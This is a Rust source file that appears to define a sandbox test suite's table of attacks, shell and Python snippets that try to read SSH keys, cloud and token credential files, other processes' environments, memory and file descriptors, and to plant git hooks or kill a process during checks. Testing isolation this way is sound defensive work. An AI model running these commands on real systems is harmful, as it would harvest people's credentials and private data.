//! Owns the attacks that look for secrets: in the home, the environment, other processes, what artel stores, and what
//! was left open. What they find they tell in their own output.

use super::attack::{Attack, Bare, Ends, py, sh};

pub fn attacks() -> Vec<Attack> {
    let mut all = files();
    all.extend(processes());
    all.extend(in_checks());
    all
}

fn files() -> Vec<Attack> {
    vec![
        sh("ssh-key", r#"echo "$EVIL $(cat "$HOUSE/.ssh/id_ed25519")""#),
        sh(
            "credential-files",
            r#"for f in .netrc .aws/credentials .config/gh/hosts.yml .docker/config.json .npmrc; do echo "$EVIL $(cat "$HOUSE/$f")"; done"#,
        ),
        sh("whole-home", r#"echo "$EVIL $(grep -rhao 'secret-of-[a-z][a-z]*' "$HOUSE" 2>/dev/null | sort -u | head -1)""#),
        sh("home-by-its-variable", r#"echo "$EVIL $(cat ~/.ssh/id_ed25519 "$HOME/.netrc" | head -1)""#),
        sh("home-by-its-user", r#"h=$(getent passwd "$(id -u)" | cut -d: -f6); ls -A "$h" "$HOUSE/.ssh" && test -r "$HOUSE/.netrc" && echo "$EVIL $(cat "$HOUSE/.netrc")""#),
        sh("checkout-that-is-not-committed", r#"echo "$EVIL $(cat "$REPO/untracked.txt")""#),
        py("files-by-handle", r#"
class Handle(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('handle', ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
# The handle needs no right to the file, and one of the root's folder leads to all the others.
for place in (HOUSE + '/secret.txt', '/', '/etc/hostname'):
    if call('name_to_handle_at', -100, ctypes.c_char_p(place.encode()), ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        base = os.open('.', os.O_RDONLY)
        fd = call('open_by_handle_at', base, ctypes.byref(handle), 0)
        if fd >= 0:
            door('open_by_handle_at', place)
        break
"#)
        .bare(Bare::HarmsAsRoot),
        sh("journal", r#"for f in "$STATE"/artel.db*; do test -r "$f" && echo "$EVIL door-open $(head -c 15 "$f" | tr -d '\0')"; done"#),
        sh("logs-of-others", r#"for f in "$STATE"/runs/*/logs/*.log; do test -r "$f" && echo "$EVIL door-open" && break; done"#),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table, one attack an entry")]
fn processes() -> Vec<Attack> {
    vec![
        sh("environment", r#"env | grep secret-of- | sed "s/^/$EVIL /""#).bare(Bare::Holds),
        py("environment-of-others", "for p in processes():\n    loot(quietly(read, f'/proc/{p}/environ') or b'')\n"),
        py("environment-of-a-parent", "loot(quietly(read, f'/proc/{os.getppid()}/environ') or b'')\nfor p in (1, os.getppid()):\n    loot(quietly(read, f'/proc/{p}/environ') or b'')\n")
            .bare(Bare::Depends),
        py("root-of-others", "for p in processes():\n    loot(quietly(read, f'/proc/{p}/root{HOUSE}/secret.txt') or b'')\n"),
        py("folders-of-others", "for p in processes():\n    loot(quietly(read, f'/proc/{p}/cwd/untracked.txt') or b'')\n"),
        py("descriptors-of-others", r#"
for p in processes():
    for fd in quietly(os.listdir, f'/proc/{p}/fd') or []:
        try:
            if HOUSE in os.readlink(f'/proc/{p}/fd/{fd}') and os.path.isfile(f'/proc/{p}/fd/{fd}'):
                loot(read(f'/proc/{p}/fd/{fd}'))
        except OSError:
            pass
"#),
        py("memory-of-others", r#"
keeper, at = int(E['KEEPER']), int(E['KEEPER_AT'])
def peek():
    with open(f'/proc/{keeper}/mem', 'rb') as memory:
        memory.seek(at)
        return memory.read(64)
loot(quietly(peek) or b'')
"#)
        .bare(Bare::Depends),
        py("memory-read-across", r#"
buffer = ctypes.create_string_buffer(64)
class Vec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
here, there = Vec(ctypes.addressof(buffer), 64), Vec(int(E['KEEPER_AT']), 64)
if call('process_vm_readv', int(E['KEEPER']), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
    loot(buffer.raw)
"#)
        .bare(Bare::Depends),
        py("memory-shared-by-number", r#"
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(int(E['KEEPER_SHM']), None, 0o10000)
if at not in (None, ctypes.c_void_p(-1).value):
    loot(ctypes.string_at(at, 64))
"#),
        py("memory-shared-by-name", "loot(quietly(read, '/dev/shm/' + E['TAG']) or b'')\n"),
        py("message-queue", r#"
queue = call('mq_open', ctypes.c_char_p(E['TAG'].encode()), os.O_RDWR, 0, None)
buffer = ctypes.create_string_buffer(1 << 16)
if queue >= 0 and call('mq_timedreceive', queue, buffer, 1 << 16, None, ctypes.byref((ctypes.c_long * 2)(0, 0))) > 0:
    loot(buffer.raw)
"#),
        py("message-queue-removed", "call('mq_unlink', ctypes.c_char_p((E['TAG'] + '-second').encode()))\n"),
        py("descriptor-fetched", r#"
for p in processes():
    fd = call('pidfd_open', p, 0)
    for theirs in range(3, 32) if fd >= 0 else ():
        got = call('pidfd_getfd', fd, theirs, 0)
        if got >= 0:
            try:
                if HOUSE in os.readlink(f'/proc/self/fd/{got}') and p == int(E['KEEPER']):
                    door('pidfd_getfd', theirs)
            except OSError:
                pass
            os.close(got)
    if fd >= 0:
        os.close(fd)
"#)
        .bare(Bare::Depends),
        py("descriptors-inherited", r#"
for fd in range(3, 256):
    try:
        loot(os.pread(fd, 1 << 16, 0))
        door('descriptor', fd, os.readlink(f'/proc/self/fd/{fd}')) if HOUSE in os.readlink(f'/proc/self/fd/{fd}') else None
    except OSError:
        pass
"#)
        .bare(Bare::Holds),
        sh("command-lines-of-others", r#"cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' ' | grep -q -- "[-]-name $TAG" && echo "$EVIL door-open""#)
            .past_landlock("it hides nothing that is in /proc, which programs need"),
        sh("kernel-log", r#"head -c 1 /dev/kmsg >/dev/null 2>&1 && echo "$EVIL door-open"; dmesg 2>/dev/null | head -1 | grep -q . && echo "$EVIL door-open"; true"#)
            .bare(Bare::Depends),
    ]
}

/// What landed code does when it is tested.
fn in_checks() -> Vec<Attack> {
    vec![
        sh("check-reads-a-secret", r#"echo "$EVIL $(cat "$HOUSE/secret.txt")""#).in_check(),
        sh("check-writes-a-hook", r#"echo "$EVIL" > "$REPO/.git/hooks/$EVIL""#).in_check(),
        sh("check-writes-to-the-state", r#"echo "$EVIL" > "$STATE/$EVIL""#).in_check(),
        sh("check-calls-a-service", r#"python3 -c "import os, socket; s = socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), 2); s.sendall(os.environ['EVIL'].encode())"; true"#)
            .in_check(),
        sh("check-signals-a-stranger", r#"kill "$VICTIM"; true"#).with_victim().in_check().ending(Ends::Either),
        sh("check-spoils-its-tree", r#"echo "$EVIL" > shared.txt; mkdir -p cache; echo "$EVIL" > cache/x; git config "x.$NAME" "$EVIL"; true"#)
            // Without a sandbox its git is the repository's.
            .in_check(),
    ]
}
